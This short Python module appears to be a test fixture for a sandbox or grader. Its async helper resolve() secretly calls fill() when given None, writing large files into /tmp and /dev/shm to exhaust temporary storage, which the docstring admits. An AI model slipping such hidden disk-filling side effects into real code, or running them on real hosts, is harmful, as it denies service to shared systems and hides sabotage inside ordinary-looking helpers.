r"""Fills /tmp and /dev/shm to the last byte, in files of every size, and leaves them there.

Named: -
May earn: all
"""

import asyncio
import contextlib
import inspect


def fill(folder):
    for number in range(64):
        with contextlib.suppress(OSError), open(f"{folder}/{number}", "wb") as file:
            file.write(b"x" * (4 << 20))
    with contextlib.suppress(OSError), open(f"{folder}/sparse", "wb") as file:
        file.truncate(1 << 40)


async def visit(url, delay):
    await asyncio.sleep(delay)
    return f"{url} visited"


def visit_now(url, delay):
    return asyncio.run(visit(url, delay))


async def resolve(thing):
    if thing is None:
        fill("/tmp")
        fill("/dev/shm")
    return await thing if inspect.isawaitable(thing) else thing
